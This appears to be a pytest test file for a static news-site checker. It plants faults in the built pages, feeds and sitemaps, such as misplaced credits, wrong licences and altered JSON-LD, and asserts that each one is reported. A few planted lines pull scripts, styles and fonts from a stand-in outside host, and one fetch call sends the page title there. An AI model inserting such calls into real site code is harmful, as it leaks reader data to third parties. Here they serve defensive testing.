"""What one story has otherwise than all others: where its credit stands and how it is linked, and what only its machines are told."""

import re
import shutil

import pytest
from PIL import Image

from tests.checks.planting import ATOM, JSON, RSS, findings, in_json, in_page, item, part, put, silent, swapped, told
from tests.conftest import builder

STORY, SEA = "2026/11/part-3/index.html", "tag/sea/index.html"
CREDIT = r'<p class="credit".*?</p>\s*'
_FIRST_ENTRY = r"(<entry>.*?)(<summary>)"


@pytest.fixture(scope="module")
def credited(tmp_path_factory):
    """Six stories that somebody else reported first, each with a picture drawn for it."""
    stories = (
        part(
            one,
            f"sources: [{{source: wire, relation: based-on, url: 'https://wire.example/{one}'}}]",
            f"image: {{src: images/{one}.png, alt: The {one}, caption: It is the {one}, credit: Ann Bee}}",
            "license: CC-BY-4.0",
            f"corrections: [{{date: 2026-11-2{one}, kind: correction, text: The {one} was wrong.}}]" if one > 3 else "",
            categories="World, Law",
        )
        for one in range(1, 7)
    )
    outlets = "-- content/data/sources.yaml --\nwire: {name: Harbour Wire, url: https://wire.example/}\n"
    about = "-- content/pages/about.md --\nTitle: About\n\nWho we are.\n"
    root = tmp_path_factory.mktemp("credited")
    (root / "content/images").mkdir(parents=True)
    for one in range(1, 7):
        Image.new("RGB", (1200, 630), (one, 0, 0)).save(root / f"content/images/{one}.png")
    made = builder(root)(outlets + about + "".join(stories))
    assert made.code == 0, made.log
    return made


def moved(pattern: str, before: str):
    """A fault: a part of a page stands before another."""
    return put(f"({before}.*?)({pattern})", r"\2\1")


def head(markup: str):
    return swapped("</title>", f"</title>{markup}")


def says(**more: object):
    """In the JSON-LD of a story."""
    return in_page(lambda node: node.update(more))


def pictured(wrong: int = 0):
    """A list with the picture of each story, but for one that has its neighbour's."""

    def plant(text: str) -> str:
        def card(found: re.Match[str]) -> str:
            own = int(found[2])
            return f'<article class="card"><img src="https://news.example/images/{own - 1 if own == wrong else own}.png" alt="">{found[1]}'

        made, count = re.subn(r'<article class="card">((?:(?!</article>).)*?part-(\d))', card, text, flags=re.DOTALL)
        assert count == 6
        return made

    return plant


def wrapped(begin: str, end: str):
    return put(f"({CREDIT})", rf"{begin}\1{end}")


#: What is planted -> (file, how, rule and file of a finding).
FAULTS = {
    "a credit before the headline": (STORY, moved(CREDIT, r'<h1 class="p-name"'), f"E06 {STORY}"),
    "a credit above the byline": (STORY, moved(CREDIT, r'<div class="byline"'), f"E06 {STORY}"),
    "a credit in a list that is closed": (STORY, wrapped("<details><summary>More</summary>", "</details>"), f"E06 {STORY}"),
    "a credit that is struck out": (STORY, put('(class="credit"[^>]*>)(.*?)(</p>)', r"\1<del>\2</del>\3"), f"E06 {STORY}"),
    "a credit that nobody can use": (STORY, swapped('<p class="credit"', '<p inert class="credit"'), f"E06 {STORY}"),
    "a credit beside the screen": (STORY, swapped('<p class="credit"', '<p style="position:absolute;left:-9999px" class="credit"'), f"E06 {STORY}"),
    "half of a name is linked": (STORY, swapped(">Harbour Wire</a>", ">Harbour</a> Wire"), f"E06 {STORY}"),
    "another's words in JSON-LD": (STORY, says(provider={"@type": "Organization", "name": "Daily Planet"}), f"E06 {STORY}"),
    "another day in JSON-LD": (STORY, says(dateCreated="2030-01-01"), f"E06 {STORY}"),
    "another source in the head": (STORY, head('<meta name="dc.source" content="https://planet.example/">'), f"E06 {STORY}"),
    "another address in the head": (STORY, head('<link rel="shortlink" href="https://news.example/2026/11/part-1/">'), f"E06 {STORY}"),
    "a second licence": (STORY, head('<link rel="license" href="https://planet.example/by"><link rel="license" href="https://planet.example/nc">'), f"E06 {STORY}"),
    "another name for those who share it": (STORY, put('data-title="[^"]*"', 'data-title="Something else"'), f"E06 {STORY}"),
    "another name in a letter to many": (STORY, put(r"(compose\?text=)Part%203", r"\1Else"), f"E06 {STORY}"),
    "categories the wrong way round": (STORY, put('(<p class="kicker">)(<a[^>]*>World</a>)(.*?)(<a[^>]*>Law</a>)', r"\1\4\3\2"), f"E06 {STORY}"),
    "a way by the second category": (STORY, put(r'(BreadcrumbList.*?"name": ")World(", "item": "[^"]*)world', r"\1Law\2law"), f"E06 {STORY}"),
    "a picture that is kept from some": (STORY, swapped('class="u-photo"', 'class="u-photo" role="presentation"'), f"E08 {STORY}"),
    "nothing below a picture": (STORY, put("<figcaption>.*?</figcaption>", ""), f"E06 {STORY}"),
    "another licence beside the text": (STORY, swapped("</article>", '<a rel="license" href="https://creativecommons.org/publicdomain/zero/1.0/">CC0</a></article>'), f"E06 {STORY}"),
    "another picture for one site": (STORY, head('<meta name="twitter:image" content="https://news.example/share/part-1.png">'), f"E06 {STORY}"),
    "a card that there is not": (STORY, put('(twitter:card" content=")[^"]*', r"\1huge"), f"E06 {STORY}"),
    "the month of another": (STORY, put('(class="age".*?datetime=")2026-11', r"\g<1>2026-10"), f"E06 {STORY}"),
    "a frame of another host behind a click": (STORY, swapped("<p>Words", '<p><a href="https://else.example/" data-embed="https://else.example/x">a film</a> Words'), f"E06 {STORY}"),
    "a button that sends elsewhere": (STORY, swapped("<p>Words", '<form><button formaction="https://else.example/">Go</button></form><p>Words'), f"E06 {STORY}"),
    "modules from another host": (STORY, head('<script type="importmap">{"imports": {"x": "https://else.example/x.js"}}</script>'), f"E06 {STORY}"),
    "a sign that nobody sees": (STORY, swapped("<p>Words of", "<p>Words\x0b of"), f"E06 {STORY}"),
    "what others may print of another": (STORY, put("part-3/republish/", "part-1/republish/"), f"E06 {STORY}"),
    "no way to what others may print": (STORY, put('<p class="story__republish">.*?</p>', ""), f"E06 {STORY}"),
    "another name of the site on one page": (STORY, put('(<footer class="foot">.*?<p>)[^<]*', r"\1The Candle"), f"E06 {STORY}"),
    "a link in two languages": (STORY, swapped("<p>Words", '<p><a hreflang="de" lang="fr" href="https://else.example/">da</a> Words'), f"E06 {STORY}"),
    "another's picture in a list": (SEA, pictured(3), f"E06 {SEA}"),
    "an item in another language": (ATOM, swapped("<entry>", '<entry xml:lang="fr">'), f"E06 {ATOM}"),
    "a number that is none": (JSON, swapped('"version"', '"x": NaN, "version"'), f"E06 {JSON}"),
    "a picture among the pages": ("sitemap-1.xml", swapped("</urlset>", "<url><loc>https://news.example/images/1.png</loc></url></urlset>"), "E06 sitemap-1.xml"),
    "an index that names itself": ("sitemap.xml", swapped("</sitemapindex>", "<sitemap><loc>https://news.example/sitemap.xml</loc></sitemap></sitemapindex>"), "E06 sitemap.xml"),
    "a lost page that is the front page": ("404.html", swapped("</title>", '</title><link rel="canonical" href="https://news.example/">'), "E07 404.html"),
    "a page that browsers save": ("_headers", lambda text: f"{text}/2026/*\n  Content-Disposition: attachment\n", "E06 _headers"),
    "a page that is shown as a text": ("_headers", lambda text: f"{text}/2026/*\n  Content-Type: text/plain\n", "E06 _headers"),
    "rules for crawlers that are a page": ("robots.txt", lambda _: "<!doctype html><title>x</title>", "E06 robots.txt"),
    "a picture of the sitemap that is not there": ("sitemap-1.xml", swapped("</loc>", '</loc><image:image xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"><image:loc>https://news.example/images/0.png</image:loc></image:image>'), "E10 sitemap-1.xml"),
    "a feed of two bytes a letter": (ATOM, lambda text: "\0".join(text) + "\0", f"E06 {ATOM}"),
    "somebody else in an item": (ATOM, put(_FIRST_ENTRY, r"\1<contributor><name>Zed</name></contributor>\2"), f"E06 {ATOM}"),
    "two summaries of an item": (ATOM, put(_FIRST_ENTRY, r"\1<summary>Bread.</summary>\2"), f"E06 {ATOM}"),
    "comments in an item": (RSS, put("(<item>.*?)(<pubDate>)", r"\1<comments>https://planet.example/</comments>\2"), f"E06 {RSS}"),
    "two days of an item": (RSS, put("(<item>.*?)(<pubDate>)", r"\1<pubDate>Sat, 14 Nov 2026 08:00:00 +0000</pubDate>\2"), f"E06 {RSS}"),
    "another picture of an item": (JSON, in_json(lambda read: item(read, "part-3").update(banner_image="https://news.example/x.png")), f"E06 {JSON}"),
}  # fmt: skip

test_a_planted_fault_is_found = told(FAULTS, "credited")

#: What is changed -> (file, how).
SOUND = {
    "nothing": (STORY, str),
    "pictures in a list": (SEA, pictured()),
    "words for a search engine": (STORY, head('<meta name="keywords" content="World, sea">')),
    "a proof for a host": (STORY, head('<meta name="google-site-verification" content="x"><link rel="me" href="https://social.example/@a">')),
    "a film in JSON-LD": (STORY, says(video={"@type": "VideoObject", "name": "The sea"})),
}  # fmt: skip

test_what_is_sound_is_not_accused = silent(SOUND, "credited")

CORRECTED = "corrections/index.html"
ONE = r'<section class="front"><h2>.*?</section>'


test_a_fault_in_the_list_of_corrections_is_found = told({
    "two the wrong way round": (CORRECTED, put(rf"({ONE})(\s*)({ONE})", r"\3\2\1"), f"E06 {CORRECTED}"),
    "one twice": (CORRECTED, put(f"({ONE})", r"\1\1"), f"E06 {CORRECTED}"),
    "two of a feed the wrong way round": ("feeds/corrections.atom.xml", put("(<entry>.*?</entry>)(<entry>.*?</entry>)", r"\2\1"), "E06 feeds/corrections.atom.xml"),
}, "credited")  # fmt: skip


@pytest.mark.parametrize(
    ("end", "planted"),
    [
        ("css", '@import url("https://else.example/x.css");'),
        ("css", "@font-face { src: url(https://else.example/x.woff2) }"),
        ("js", 'fetch("https://else.example/?a=" + document.title);'),
        ("js", 'import "https://else.example/x.js";'),
    ],
)
def test_a_style_or_a_script_that_asks_another_host_is_found(end, planted, credited, tmp_path):
    shutil.copytree(credited.output, tmp_path / "output")
    names = {"css": "feed.css", "js": "article.js"}
    file = next((tmp_path / "output/theme").rglob(names[end]), None) or next((tmp_path / "output").rglob(f"*.{end}"))
    file.write_text(planted + file.read_text(encoding="utf-8"), encoding="utf-8")

    found = findings(tmp_path / "output")

    assert [one for one in found if "it asks else.example, which no policy of the site allows" in one] == found != []


def test_the_code_of_another_story_is_found(credited, tmp_path):
    output = tmp_path / "output"
    shutil.copytree(credited.output, output)
    own, other = (output / f"2026/11/part-{one}/index.html" for one in (3, 1))
    drawn = re.compile(r'(?s)(share__code.*?<path[^>]* d=")([^"]*)')
    code = drawn.search(other.read_text(encoding="utf-8"))
    assert code
    own.write_text(drawn.sub(rf"\g<1>{code[2]}", own.read_text(encoding="utf-8")), encoding="utf-8")

    found = findings(output)

    assert [one for one in found if "telephones" in one] == found != []


def test_a_text_in_another_alphabet_is_found(credited, tmp_path):
    shutil.copytree(credited.output, tmp_path / "output")
    text = tmp_path / "output/2026/11/part-3/republish/text.txt"
    text.write_bytes(text.read_bytes() + "\nCaf\u00e9".encode("latin-1"))

    found = findings(tmp_path / "output")

    assert "E06 2026/11/part-3/republish/text.txt: it holds bytes that are no UTF-8" in found
